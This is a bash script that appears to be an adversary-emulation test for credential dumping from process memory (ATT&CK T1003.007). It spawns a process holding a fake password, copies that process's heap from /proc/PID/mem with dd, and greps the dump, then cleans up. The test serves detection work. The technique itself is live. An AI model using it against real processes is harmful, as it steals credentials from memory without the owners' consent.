#!/bin/bash
# technique: T1003.007
# tactic: credential_access
# what: the heap of a running process (holding a fake password) read through /proc/PID/maps and
#       /proc/PID/mem with dd, then searched
# source: ART T1003.007 #1 "Dump individual process memory with sh (Local)", #3 (Python)
# cleanup: the target process is killed and the dump removed at exit
. "$(dirname "$0")/lib.sh"
d=$(vg_tmp)
sh -c "PASSWORD=vg-secret-$VG_MARK; sleep 10" &
target=$!
vg_on_exit "kill $target"
sleep 0.2
heap=$(grep -m1 '\[heap\]' "/proc/$target/maps" | cut -d' ' -f1)
start=$((0x${heap%-*})); end=$((0x${heap#*-}))
dd if="/proc/$target/mem" of="$d/heap.bin" bs=4096 skip=$((start / 4096)) count=$(((end - start) / 4096)) 2>/dev/null
grep -c PASSWORD "$d/heap.bin" >/dev/null || true
